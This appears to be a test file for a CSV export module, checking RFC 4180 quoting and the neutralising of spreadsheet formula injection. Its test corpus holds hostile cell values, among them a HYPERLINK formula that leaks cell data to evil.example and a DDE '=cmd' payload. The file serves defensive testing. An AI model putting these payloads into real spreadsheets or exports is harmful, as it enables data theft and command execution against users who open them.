// CSV cells: RFC 4180 quoting and the neutralising of cells a spreadsheet would run as formulas,
// over a corpus of hostile values with the exact text expected for each.
import * as assert from 'node:assert/strict';
import { csvCell, csvRow, neutralise, quoteField } from '../../../src/export/csv';
import { csvFormat, UTF8_BOM } from '../../../src/export/formats';
import { INVOICE_TYPES, parseCsv, recordOf } from '../../support/csv';

/** [value in the record, the cell's exact text]. */
const CORPUS: [unknown, string][] = [
  // Formulas: a leading ' makes the spreadsheet show them as text.
  ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', `"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`],
  ['=1+1', "'=1+1"],
  ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
  ['+1', "'+1"],
  ['-1+2', "'-1+2"],
  ['-12.50', "'-12.50"],
  ['+44 20 7946 0000', "'+44 20 7946 0000"],
  ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
  ['\t=1+1', "'\t=1+1"],
  ['\r=1+1', `"'\r=1+1"`],
  // After leading blanks too: a spreadsheet trims them and runs what follows.
  ['\n=1+1', `"'\n=1+1"`],
  [' =1+1', "' =1+1"],
  ['\u00a0=1+1', "'\u00a0=1+1"],
  [' \r\n\t@SUM(A1)', `"' \r\n\t@SUM(A1)"`],
  ['\u3000-1', "'\u3000-1"],
  ['   ', '   '],
  [' 12', ' 12'],
  // A `;` is quoted: a spreadsheet whose list separator is `;` would split the cell there.
  ["a;=cmd|' /C calc'!A0", `"a;=cmd|' /C calc'!A0"`],
  ['x;y', '"x;y"'],
  [';', '";"'],
  ["'=1+1", "'=1+1"],
  ['a=1', 'a=1'],
  ['1-2', '1-2'],
  // RFC 4180: quotes doubled, fields with a comma, CR or LF quoted.
  ['say "hi"', '"say ""hi"""'],
  ['"', '""""'],
  ['a,b', '"a,b"'],
  ['line 1\nline 2', '"line 1\nline 2"'],
  ['line 1\r\nline 2', '"line 1\r\nline 2"'],
  ['=A1,"x"\n', `"'=A1,""x""\n"`],
  ['', ''],
  ['plain text', 'plain text'],
  ['tab\tinside', 'tab\tinside'],
  // Unicode passes through as it is.
  ['Müller & Söhne GmbH', 'Müller & Söhne GmbH'],
  ['東京株式会社', '東京株式会社'],
  ['emoji 😀 ok', 'emoji 😀 ok'],
  ['\u202e=1', '\u202e=1'],
  ['－1', '－1'],
  // Numbers and booleans of the record stay numbers: a negative amount must add up.
  [-12.5, '-12.5'],
  [-0.01, '-0.01'],
  [1234.5, '1234.5'],
  [0, '0'],
  [1e21, '1e+21'],
  [true, 'true'],
  [false, 'false'],
  // Missing values are empty cells.
  [undefined, ''],
  [null, ''],
  // Objects and lists are JSON, quoted (they hold quotes and commas).
  [{ a: '=1', b: -1 }, '"{""a"":""=1"",""b"":-1}"'],
  [[1, 2], '"[1,2]"'],
  [[], '[]'],
];

describe('export CSV cells', () => {
  for (const [value, expected] of CORPUS) {
    it(`${JSON.stringify(value) ?? 'undefined'} → ${JSON.stringify(expected)}`, () => {
      assert.equal(csvCell(value), expected);
    });
  }

  it('neutralises exactly the strings starting with = + - @ tab or CR', () => {
    for (const c of ['=', '+', '-', '@', '\t', '\r']) assert.equal(neutralise(`${c}x`), `'${c}x`);
    for (const c of [' ', "'", '\n', 'a', '1', '(', '#', '|', '%']) assert.equal(neutralise(`${c}x`), `${c}x`);
  });

  it('neutralises them after any leading whitespace as well', () => {
    for (const blank of [
      ' ',
      '  ',
      '\t',
      '\r',
      '\n',
      '\r\n',
      '\u00a0',
      '\u2028',
      '\u3000',
      '\ufeff',
      '\u200b',
      ' \u00a0\n ',
    ]) {
      for (const c of ['=', '+', '-', '@'])
        assert.equal(neutralise(`${blank}${c}x`), `'${blank}${c}x`, JSON.stringify(blank + c));
      // A tab or CR is itself a formula start; any other blank before plain text changes nothing.
      if (!/[\t\r]/.test(blank)) assert.equal(neutralise(`${blank}x`), `${blank}x`);
    }
  });

  it('quotes exactly the fields holding a quote, comma, semicolon, CR or LF', () => {
    for (const c of ['"', ',', ';', '\r', '\n']) assert.match(quoteField(`a${c}b`), /^".*"$/s);
    for (const c of ['\t', "'", ' ', ':', '|']) assert.equal(quoteField(`a${c}b`), `a${c}b`);
  });

  it('ends every row with CRLF, and a strict RFC 4180 parser reads the corpus back', () => {
    const values = CORPUS.map(([v]) => v);
    const text = csvRow(values) + csvRow(values);
    assert.ok(text.endsWith('\r\n'));
    const rows = parseCsv(text);
    assert.equal(rows.length, 2);
    assert.deepEqual(
      rows[0],
      CORPUS.map(([, cell]) => (cell.startsWith('"') ? cell.slice(1, -1).replace(/""/g, '"') : cell)),
    );
  });

  it('writes an invoice with hostile fields as one row that reads back as the record', () => {
    const invoice = {
      id: '=HYPERLINK("x")',
      invoiceNumber: '-1+2',
      customerRef: { id: '@1', companyName: 'Quote "Co", Ltd\r\nLine 2' },
      issueDate: '2024-01-02T00:00:00',
      currency: 'GBP',
      currencyRate: 1,
      subTotal: -12.5,
      totalTaxAmount: -2.5,
      totalAmount: -15,
      amountDue: 0,
      status: 'Paid',
      note: '\t=cmd',
      metadata: { isDeleted: false },
      lineItems: [{ description: '=2+2', unitAmount: -12.5, quantity: 1 }],
    };
    const format = csvFormat('invoices');
    const text = format.head() + format.record(invoice, 0) + format.tail(1);
    assert.ok(text.startsWith(UTF8_BOM));
    const [header, row, ...rest] = parseCsv(text.slice(1));
    assert.equal(rest.length, 0);
    assert.equal(row[header.indexOf('subTotal')], '-12.5', 'a negative amount stays a number');
    assert.equal(row[header.indexOf('invoiceNumber')], "'-1+2", 'a text that looks like a formula does not');
    assert.deepEqual(recordOf(header, row, INVOICE_TYPES), invoice);
  });

  describe('with another delimiter (dataPlatform.export.csvDelimiter)', () => {
    it('separates with ";" and quotes a field holding it, a comma or a quote', () => {
      assert.equal(csvRow(['a;b', 'c,d', 'e\tf', 'plain', -1.5], ';'), '"a;b";"c,d";e\tf;plain;-1.5\r\n');
      assert.deepEqual(parseCsv(csvRow(['x;y', '=1;2', 'z'], ';'), ';'), [['x;y', "'=1;2", 'z']]);
    });

    it('separates with a tab and quotes a field holding a tab, even a neutralised formula', () => {
      assert.equal(csvRow(['e\tf', 'a;b', 'c,d', '\t=1'], '\t'), `"e\tf"\t"a;b"\t"c,d"\t"'\t=1"\r\n`);
      assert.equal(quoteField('a\tb', '\t'), '"a\tb"');
      assert.equal(quoteField('a\tb', ','), 'a\tb', 'a tab is data, not a separator, in a comma file');
    });

    for (const delimiter of [';', '\t'] as const) {
      it(`writes the whole invoice format with ${JSON.stringify(delimiter)}, and it reads back as the record`, () => {
        const invoice = {
          id: 'inv;1\t2',
          invoiceNumber: 'A,B;C',
          customerRef: { id: 'c1', companyName: 'Tab\tand;semi, Ltd' },
          issueDate: '2024-01-02T00:00:00',
          currency: 'EUR',
          totalAmount: -15.25,
          status: 'Paid',
          metadata: { isDeleted: false },
          lineItems: [{ description: 'x;y', unitAmount: 1 }],
        };
        const format = csvFormat('invoices', delimiter);
        const text = format.head() + format.record(invoice, 0) + format.tail(1);
        const [header, row, ...rest] = parseCsv(text.slice(1), delimiter);
        assert.equal(rest.length, 0);
        assert.equal(header.length, row.length);
        assert.ok(!text.slice(1).split('\r\n')[0].includes(','), 'the header holds no comma separator');
        assert.deepEqual(recordOf(header, row, INVOICE_TYPES), invoice);
      });
    }
  });
});
